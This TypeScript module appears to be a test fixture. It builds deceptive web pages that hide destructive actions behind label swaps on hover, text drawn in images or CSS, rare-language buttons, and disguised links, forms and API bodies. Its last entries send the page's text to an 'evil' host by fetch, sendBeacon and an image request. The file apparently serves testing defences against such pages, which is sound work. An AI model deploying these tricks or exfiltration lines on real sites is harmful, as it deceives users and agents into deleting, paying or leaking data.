/** DISGUISED_PAGES: hostile pages by names that change under the pointer, words that only the eye reads, rarer words of acts, and addresses and bodies in disguise. */
import type { Single } from './kind';
import { control, next, on, request } from './single-parts';

const BOX = 'style="display:inline-block;padding:9px;min-width:90px;border:1px solid;cursor:pointer"';
/** A button whose words change at an event and that acts only under its new words. */
const swapped = (event: string, words = 'Delete all', kept = 'Next'): Single =>
  control(
    (hit) =>
      `<button data-it>${kept}</button>${on(event, `event.currentTarget.textContent = '${words}'`)}${on('click', hit, `event.currentTarget.textContent === '${words}'`)}`,
  );
const button = (name: string, lang: string): Single =>
  control((hit) => `<p>Zapis 7</p><button data-it>${name}</button>${on('click', hit)}`, lang);
const picture = (words: string) =>
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns='http://www.w3.org/2000/svg' width='120' height='30'><rect width='120' height='30' fill='#ddd'/><text x='8' y='20' font-size='15'>${words}</text></svg>`)}`;
const send = (path: string, body: string, type = 'application/json') =>
  `fetch('${path}', {method: 'POST', headers: {'content-type': '${type}'}, body: ${JSON.stringify(body).replaceAll('</', '<\\/')}})`;
const api = (body: string, tail = '/api', type?: string): Single =>
  request((path) => next(send(`${path}${tail}`, body, type)));
/** @param code of a worker that may use `told`, the message, and `to`, an address of this site */
const worker = (code: string): Single =>
  request(
    (path) =>
      next(
        'w.postMessage(7)',
        `w = new Worker(URL.createObjectURL(new Blob(["onmessage = ({data: told}) => { const to = '" + origin + "${path}'; ${code.replaceAll('"', '\\"')} }"])))`,
      ),
    600,
  );

const SWAPS: Readonly<Record<string, Single>> = {
  'words swapped at focus': swapped('focus'),
  'words swapped at pointerover': swapped('pointerover', 'Send to all'),
  'words swapped at mousemove': swapped('mousemove', 'Pay now'),
  'words swapped at pointerdown': swapped('pointerdown', 'Publish'),
  'words swapped at mousedown': swapped('mousedown', 'Revoke access'),
  'words swapped at keydown': control(
    (hit) =>
      `<button data-it>Next</button>${on('keydown', "event.currentTarget.textContent = 'Erase'")}${on('keyup', hit, "event.currentTarget.textContent === 'Erase'")}`,
  ),
  'label of a style swapped on hover': control(
    (hit) =>
      `<style>.s::before{content:'Next'}.s:hover::before,.s:focus::before{content:'Delete all'}</style><button class="s" data-it></button>${on('click', hit)}`,
  ),
  'two words, one shown on hover': control(
    (hit) =>
      `<style>.t .b{display:none}.t:hover .a,.t:focus .a{display:none}.t:hover .b,.t:focus .b{display:inline}</style><button class="t" data-it><span class="a">Next</span><span class="b">Close account</span></button>${on('click', hit)}`,
  ),
  'button that slides under the pointer': control(
    (hit) =>
      `<div style="position:relative;height:60px"><button id="q" style="position:absolute;left:0;top:0;width:140px;height:40px" data-it>Next</button><button id="d" style="position:absolute;left:300px;top:0;width:140px;height:40px">Delete all</button></div><script>q.addEventListener('pointerover', () => { d.style.left = '0'; d.style.zIndex = 5 }); d.addEventListener('click', () => { ${hit} }); q.addEventListener('click', (e) => { if (d.style.left === '0px') d.click() })</script>`,
  ),
};

const DRAWN: Readonly<Record<string, Single>> = {
  'words in the picture of a background': control(
    (hit) =>
      `<button data-it style="width:120px;height:30px;border:0;background:url(&quot;${picture('Delete all')}&quot;)"></button>${on('click', hit)}`,
  ),
  'words in a picture inside, named by another': control(
    (hit) => `<button data-it aria-label="Next"><img alt="" src="${picture('Pay now')}"></button>${on('click', hit)}`,
  ),
  'words by content of a style': control(
    (hit) =>
      `<style>.c::after{content:'Delete ' attr(data-n)}</style><button class="c" data-n="everything" data-it></button>${on('click', hit)}`,
  ),
  'words by content beside a harmless name': control(
    (hit) =>
      `<style>.m{font-size:0}.m::after{font-size:16px;content:'Send now'}</style><button class="m" data-it>Next</button>${on('click', hit)}`,
  ),
  'words by a counter style': control(
    (hit) =>
      `<style>@counter-style act{system:cyclic;symbols:'Delete all';suffix:''}ol{list-style:act inside}</style><ol><li role="button" tabindex="0" data-it ${BOX.replace('inline-block', 'list-item')}></li></ol>${on('click', hit)}`,
  ),
  'words drawn on a canvas': control(
    (hit) =>
      `<button data-it aria-label="Next"><canvas width="120" height="30"></canvas></button><script>c = document.querySelector('canvas').getContext('2d'); c.font = '16px sans-serif'; c.fillText('Delete all', 5, 20)</script>${on('click', hit)}`,
  ),
  'words of a picture button': control(
    (hit) =>
      `<input type="image" data-it alt="Next" src="${picture('Unsubscribe')}">${on('click', `event.preventDefault(); ${hit}`)}`,
  ),
  'drawing of a bin by lines': control(
    (hit) =>
      `<button data-it aria-label="Next"><svg width="24" height="24" viewBox="0 0 24 24"><title>Delete</title><path d="M6 7h12l-1 14H7zM9 4h6v2H9z"/></svg></button>${on('click', hit)}`,
  ),
};

const PAINTED: Readonly<Record<string, Single>> = {
  'sign that another box paints over': control(
    (hit) =>
      `<div style="position:relative;width:140px;height:40px"><button data-it style="width:140px;height:40px">Next</button><span style="position:absolute;inset:0;background:#eee;pointer-events:none;text-align:center;line-height:40px">Delete all</span></div>${on('click', hit)}`,
  ),
  'sign under an inset shadow': control(
    (hit) =>
      `<button data-it style="width:150px;height:40px;box-shadow:inset 0 0 0 99px #eee;position:relative">Next<b style="position:absolute;inset:0;line-height:40px;background:#eee">Pay 90 EUR</b></button>${on('click', hit)}`,
  ),
  'sign of a drawing over the control': control(
    (hit) =>
      `<div style="position:relative;width:150px;height:40px"><button data-it style="width:150px;height:40px">Next</button><svg style="position:absolute;inset:0;pointer-events:none" width="150" height="40"><rect width="150" height="40" fill="#eee"/><text x="20" y="25">Delete all</text></svg></div>${on('click', hit)}`,
  ),
  'name that is clipped away': control(
    (hit) =>
      `<button data-it style="width:150px;height:40px"><span style="display:inline-block;clip-path:inset(100%);width:1px">Next</span><i>Destroy</i></button>${on('click', hit)}`,
  ),
  'name in the colour of its ground beside a sign': control(
    (hit) =>
      `<button data-it aria-label="Next" style="background:#fff"><span style="color:#fff">Next</span> <span aria-hidden="true">Publish now</span></button>${on('click', hit)}`,
  ),
  'words that a highlight covers': control(
    (hit) =>
      `<style>::highlight(h){background:#eee;color:#eee}</style><button data-it>Next <em>Transfer all</em></button><script>CSS.highlights.set('h', new Highlight((() => { const r = new Range(); r.selectNodeContents(document.querySelector('[data-it]').firstChild); return r })()))</script>${on('click', hit)}`,
  ),
};

const TONGUES: Readonly<Record<string, Single>> = {
  'Slovak: delete': button('Odstrániť', 'sk'),
  'Lithuanian: delete': button('Ištrinti', 'lt'),
  'Latvian: pay': button('Maksāt', 'lv'),
  'Estonian: send': button('Saada', 'et'),
  'Icelandic: publish': button('Birta', 'is'),
  'Hebrew: pay': button('שלם', 'he'),
  'Persian: delete': button('حذف', 'fa'),
  'Urdu: send': button('بھیجیں', 'ur'),
  'Swahili: revoke': button('Batilisha', 'sw'),
  'Malay: pay': button('Bayar', 'ms'),
  'Catalan: publish': button('Publica', 'ca'),
  'Basque: delete': button('Ezabatu', 'eu'),
  'Welsh: send': button('Anfon', 'cy'),
  'Irish: delete': button('Scrios', 'ga'),
  'Marathi: revoke': button('रद्द करा', 'mr'),
  'Telugu: delete': button('తొలగించు', 'te'),
  'Mongolian: pay': button('Төлөх', 'mn'),
  'Kazakh: send': button('Жіберу', 'kk'),
};

const DESCRIBED: Readonly<Record<string, Single>> = {
  'act told by a description': control(
    (hit) => `<button data-it aria-description="Deletes the whole workspace">Next</button>${on('click', hit)}`,
  ),
  'act told by an element that describes': control(
    (hit) =>
      `<p id="e">This pays the invoice at once.</p><button data-it aria-describedby="e">Next</button>${on('click', hit)}`,
  ),
  'act told by a title': control((hit) => `<button data-it title="Send to everyone">Next</button>${on('click', hit)}`),
  'act told by a shortcut': control(
    (hit) =>
      `<button data-it aria-keyshortcuts="Delete" aria-roledescription="eraser">Next</button>${on('click', hit)}`,
  ),
};

const LINKS: Readonly<Record<string, Single>> = {
  'link to an act by an encoded word': request((path) => `<a href="${path}/rows/7/%64elete">Row 7</a>`),
  'link to an act behind a matrix parameter': request((path) => `<a href="${path}/rows;do=delete;id=7">Row 7</a>`),
  'link to an act in a later parameter': request((path) => `<a href="${path}/view?tab=2&cmd=destroy&id=7">Row 7</a>`),
  'link to an act of a joined word': request((path) => `<a href="${path}/DeleteRow.aspx?id=7">Row 7</a>`),
  'link whose address is set at the press': request(
    (path) =>
      `<a href="#more" data-it>More</a>${on('mousedown', `event.currentTarget.href = '${path}/session/logout'`)}${on('click', `event.currentTarget.href = '${path}/session/logout'`)}`,
  ),
  'link with a method told to its framework': request(
    (path) =>
      `<a href="${path}/rows/7" data-turbo-method="delete" data-it>Row 7</a>${on('click', `event.preventDefault(); fetch(event.currentTarget.href, {method: 'POST', body: new URLSearchParams({_method: 'delete'})})`)}`,
  ),
  'link to an act by a base': request((path) => `<base href="${path}/rows/delete/"><a href="7">Row 7</a>`),
};

const FORMS: Readonly<Record<string, Single>> = {
  'form with a method in a hidden field': request(
    (path) =>
      `<form method="post" action="${path}/rows/7"><input type="hidden" name="_method" value="DELETE"><button>Next</button></form>`,
  ),
  'form with a method in its address': request(
    (path) => `<form method="post" action="${path}/rows/7?_method=DELETE"><button>Next</button></form>`,
  ),
  'form with a method on its button': request(
    (path) => `<form method="post" action="${path}/rows/7"><button name="_method" value="delete">Next</button></form>`,
  ),
  'form whose field is filled at submit': request(
    (path) =>
      `<form method="post" action="${path}/rows/7" onsubmit="this.op.value='destroy'"><input type="hidden" name="op" value="view"><button>Next</button></form>`,
  ),
  'form data that is changed as it is made': request(
    (path) =>
      `<form method="post" action="${path}/rows/7"><button>Next</button></form><script>document.forms[0].addEventListener('formdata', (event) => event.formData.set('action', 'delete'))</script>`,
  ),
  'form sent as text': request(
    (path) =>
      `<form method="post" enctype="text/plain" action="${path}/rows"><input type="hidden" name='{"op":"delete","x' value='":7}'><button>Next</button></form>`,
  ),
};

const BODIES: Readonly<Record<string, Single>> = {
  'worker that posts an act in its body': worker(
    "fetch(to + '/api', {method: 'POST', body: JSON.stringify({op: 'delete', id: told})})",
  ),
  'worker that posts a mutation': worker(
    "fetch(to + '/graphql', {method: 'POST', body: JSON.stringify({query: 'mutation{deleteRow(id:' + told + '){id}}'})})",
  ),
  'worker that posts a form': worker(
    "fetch(to + '/rows/7', {method: 'POST', body: new URLSearchParams({_method: 'delete'})})",
  ),
  'worker that calls a procedure': worker(
    "x = new XMLHttpRequest(); x.open('POST', to + '/rpc'); x.send(JSON.stringify({jsonrpc: '2.0', method: 'rows.remove', params: [told], id: 1}))",
  ),
  'GraphQL operation by its name': api(
    '{"operationName":"RemoveMember","variables":{"id":7},"extensions":{"persistedQuery":{"version":1,"sha256Hash":"ab"}}}',
    '/graphql',
  ),
  'GraphQL mutation after a query': api(
    '{"query":"query A{me{id}} mutation B{me:cancelPlan(now:true){id}}","operationName":"B"}',
    '/graphql',
  ),
  'GraphQL by its media type': api('mutation { archive: purgeAll { ok } }', '/gql', 'application/graphql'),
  'GraphQL in a batch': api('[{"query":"{me{id}}"},{"query":"mutation{sendInvite(to:7){id}}"}]', '/graphql'),
  'JSON-RPC batch': api(
    '[{"jsonrpc":"2.0","method":"ping","id":1},{"jsonrpc":"2.0","method":"account.close","id":2}]',
    '/rpc',
  ),
  'JSON-RPC with the act in its path': api(
    '{"jsonrpc":"2.0","method":"call","params":{"service":"object","method":"unlink","args":[7]},"id":1}',
    '/jsonrpc',
  ),
  'XML-RPC': api(
    '<?xml version="1.0"?><methodCall><methodName>wp.deletePost</methodName></methodCall>',
    '/xmlrpc.php',
    'text/xml',
  ),
  'JSON Patch that removes': api('[{"op":"remove","path":"/members/7"}]', '/team', 'application/json-patch+json'),
  'socket that says an act': request((path) =>
    next(`w = new WebSocket('ws://' + location.host + '${path}/live?do=delete&id=7')`),
  ),
  'stream at the address of an act': request((path) => next(`new EventSource('${path}/rows/7/delete')`)),
  'stream that starts an act by a parameter': request((path) =>
    next(`new EventSource('${path}/jobs?action=send_all')`),
  ),
  'POST to elsewhere that names no act': {
    by: 'browser',
    body: ({ path, evil }) =>
      next(`fetch('${evil}${path}/c', {method: 'POST', mode: 'no-cors', body: document.body.innerText})`),
  },
  'beacon to elsewhere that names no act': {
    by: 'browser',
    body: ({ path, evil }) => next(`navigator.sendBeacon('${evil}${path}/c', document.body.innerText)`),
  },
  'picture from elsewhere that carries the page': {
    by: 'browser',
    body: ({ path, evil }) =>
      next(`new Image().src = '${evil}${path}/c?t=' + encodeURIComponent(document.body.innerText)`),
  },
};

export const DISGUISED_PAGES: Readonly<Record<string, Single>> = {
  ...SWAPS,
  ...DRAWN,
  ...PAINTED,
  ...TONGUES,
  ...DESCRIBED,
  ...LINKS,
  ...FORMS,
  ...BODIES,
};
